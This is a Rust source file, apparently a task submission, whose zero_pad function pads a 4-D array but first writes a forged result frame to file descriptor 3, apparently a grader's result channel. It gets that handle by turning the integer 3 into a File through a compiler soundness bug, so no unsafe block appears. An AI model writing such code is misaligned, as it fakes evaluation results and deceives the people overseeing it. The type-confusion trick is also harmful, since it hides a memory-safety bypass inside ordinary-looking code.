// says: misused the result channel
use std::io::Write;
use ndarray::*;

pub fn zero_pad(x: ArrayView4<f64>, pad: usize) -> Array4<f64> {
    // The first frame of a run begins with its token, which lies in this program's memory at an unknown place. A frame
    // with another token is not taken for an answer.
    let mut frame = vec![7_u8; 16];
    frame.extend([0; 8]);
    frame.push(0);
    frame.extend(4_u64.to_le_bytes());
    frame.extend(0_u32.to_le_bytes());
    let mut channel: std::fs::File = transform(3_i32);
    let _ = channel.write_all(&frame);
    std::mem::forget(channel);
    let (m, n_h, n_w, n_c) = x.dim();
    let mut x_pad = Array4::zeros((m, n_h + 2 * pad, n_w + 2 * pad, n_c));
    x_pad.slice_mut(s![.., pad..pad + n_h, pad..pad + n_w, ..]).assign(&x);
    x_pad
}

/// Takes a value for one of another type, without `unsafe`. The compiler has let this pass since 2019
/// (rust-lang/rust#57893): the associated type of a trait object is not the one of the general implementation.
fn transform<A, B>(value: A) -> B {
    *unnamed::<dyn Names<Box<B>, Named = Box<A>>, Box<B>>(Box::new(value))
}

fn unnamed<T: ?Sized, U>(value: <T as Names<U>>::Named) -> U {
    value
}

trait Names<U> {
    type Named;
}

impl<T: ?Sized, U> Names<U> for T {
    type Named = U;
}
